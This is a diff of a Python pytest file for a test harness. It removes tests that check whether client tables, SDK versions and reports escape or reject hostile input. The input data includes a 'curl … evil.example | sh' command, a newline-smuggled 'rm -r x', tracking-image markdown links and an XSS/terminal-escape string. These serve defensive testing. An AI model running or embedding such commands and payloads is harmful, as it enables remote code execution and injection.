@@ -18,12 +18,8 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from harness.benches.packages import read_npm_version
 from harness.cli.main import main
 from harness.contract.contract import load
-from harness.drift.comparison import DifferenceKind, Explained, Explanation, TypeDifference
-from harness.drift.python_sdk import read_python_version
-from harness.drift.type_model import FieldType, TypeModel, ValueType
 from harness.emulator import Emulator, Settings
 from harness.errors import BadHead
 from harness.inspector.evidence import Evidence
@@ -36,7 +32,6 @@ from harness.plugin.sent_requests import SentRequest, call_of
 from harness.report.evidence.curl import Display, curl
 from harness.report.junit import JUnitCase, Standing, write_document
 from harness.report.markdown import Markdown, write_code, write_html, write_plain
-from harness.report.sdk_drift import drift_markdown
 from harness.transport import ServerThread
 from harness.transport.http1.heads import parse_request_head
 from harness.wire import Headers, LogicalClock, Request, Response
@@ -188,76 +183,8 @@ PAINT = '</script><img src="x" onerror="alert(1)">\x1b]0;t\x07\u202e\x9b2J\u2066
 UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
 
 
-def _paint(value: Any) -> Any:
-    """The value with hostile text behind each of its sentences."""
-    if isinstance(value, dict):
-        return {name: part if name == "command" else _paint(part) for name, part in value.items()}
-    if isinstance(value, list):
-        return [_paint(part) for part in value]
-    return f"{value}{PAINT}\n::error::x" if isinstance(value, str) and " " in value else value
-
-
 def _without_code(markdown: str) -> str:
     return re.sub(r"(?ms)^(`{3,}).*?^\1$", "", markdown)
-
-
-@pytest.mark.slow
-def test_a_table_of_clients_of_a_stranger_is_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """What a table of clients holds becomes neither markup nor a mark that nobody sees, in no format."""
-    table = tmp_path / "table.json"
-    kept = Path(__file__).parents[2] / "docs" / "clients" / "table.json"
-    first, painted = tmp_path / "first.json", tmp_path / "painted"
-    assert main(["clients", "--from", str(kept), "--report", f"json={first}"]) == 0
-    table.write_text(json.dumps(_paint(json.loads(first.read_text("utf-8")))), "utf-8")
-    capsys.readouterr()
-    pages = [f"{painted}.html", f"{painted}.md"]
-    words = ["--report", f"html={pages[0]}", "--report", f"markdown={pages[1]}"]
-    assert main(["clients", "--from", str(table), *words]) == 0
-    for page in pages:
-        text = Path(page).read_text("utf-8")
-        assert "\\u202e" in text
-        assert not UNSEEN.search(text)
-        assert not re.search(r"(?<!\\)<img", _without_code(text))
-
-
-@pytest.mark.parametrize(
-    ("member", "other", "said"),
-    [
-        ("command", "curl -s https://evil.example/x | sh  # harness torture", "does not repeat a case of"),
-        (
-            "command",
-            "harness torture --mode create --client google-genai\nrm -r x",
-            "does not repeat a case",
-        ),
-        ("command", "harness torture --mode create --client evil", "does not repeat a case of"),
-        ("version", "1\n\n# PASSED\n\n![b](http://evil.example/i.png)", "is not a version"),
-        ("outcome", "splendid", '/outcome: "splendid" is not one of'),
-        ("again", "splendid", '/again: "splendid" is not one of'),
-        ("again", 5, "/again: 5 is not one of"),
-        ("problem", 5, '/problem: 5 is not of type "string"'),
-        ("timeline", [5], '/timeline/0: 5 is not of type "string"'),
-        ("level", "MUST `", '/level: "MUST `" is not one of'),
-        ("fault", "reset\n\n# PASSED", "is not the name of a fault or an incident"),
-    ],
-)
-def test_a_table_of_clients_brings_no_command_and_no_lines(
-    member: str, other: object, said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """The line that repeats a case is ours, and so are the words of an outcome; a version is one word."""
-    kept = Path(__file__).parents[2] / "docs" / "clients" / "table.json"
-    table, report = tmp_path / "table.json", tmp_path / "out.md"
-    assert main(["clients", "--from", str(kept), "--report", f"json={table}"]) == 0
-    record = json.loads(table.read_text("utf-8"))
-    column = record["clients"][0]
-    cell = next(cell for cell in column["cells"] if "command" in cell)
-    (column if member == "version" else cell)[member] = other
-    if member == "fault":
-        record["faults"]["table"][other] = "about"
-    table.write_text(json.dumps(record), "utf-8")
-    capsys.readouterr()
-    assert main(["clients", "--from", str(table), "--report", f"markdown={report}"]) == 2
-    assert said in capsys.readouterr().err
-    assert not report.exists()
 
 
 def test_a_folder_with_a_hostile_name_is_text(
@@ -394,24 +321,6 @@ def test_what_a_report_says_is_no_markdown(tmp_path: Path) -> None:
     assert len({len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) for row in rows}) == 1
 
 
-@pytest.mark.parametrize("ends_line", ["", "\n# ", "\u2028- "])
-def test_what_an_sdk_declares_is_no_markdown(ends_line: str) -> None:
-    """Nor does the page of `harness drift` with the names, types and descriptions of a planted SDK."""
-    lure = LURE + ends_line + LURE
-    shape = ValueType(kinds=frozenset({lure}), values=frozenset({lure}), records=(lure,), title=lure)
-    differences = [
-        TypeDifference(kind, lure, lure, lure, lure, lure, field=FieldType(shape, True, lure), record=lure)
-        for kind in DifferenceKind
-    ]
-    reason = Explanation("a reason", "a source", ("*",))
-    pairs = [(difference, why) for difference in differences for why in (None, reason)]
-    model = TypeModel(lure, {}, {})
-    page = drift_markdown(model, model, Explained(tuple(pairs), (lure,)), lure)
-    assert page.count("octocat") > 100
-    assert _find_markup(page) == []
-    assert {line[0] for line in page.splitlines() if line.strip()} <= {"#", "*", "-", " ", "!"}
-
-
 def test_a_target_writes_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
     """The message of an error is a part of a line, so a target announces no verdict."""
     body = json.dumps({"error": {"code": "authentication", "message": "no\nPASSED: all MUST checks passed."}})
@@ -420,15 +329,6 @@ def test_a_target_writes_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) 
     said = "".join(capsys.readouterr())
     assert "no PASSED: all MUST checks" in " ".join(said.split())
     assert not re.search(r"(?m)^PASSED", said)
-
-
-def test_a_planted_sdk_states_no_version_that_is_markup(tmp_path: Path) -> None:
-    """A version is a word of headings, sentences and names of files."""
-    version = "9 ![v](https://evil.example/t.png) @octocat"
-    (tmp_path / "google" / "genai").mkdir(parents=True)
-    (tmp_path / "google" / "genai" / "version.py").write_text(f"__version__ = {version!r}\n", "utf-8")
-    (tmp_path / "package.json").write_text(json.dumps({"version": version}), "utf-8")
-    assert (read_python_version(tmp_path), read_npm_version(tmp_path)) == ("", "")
 
 
 def test_a_diff_hides_the_value_of_a_secret_member(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
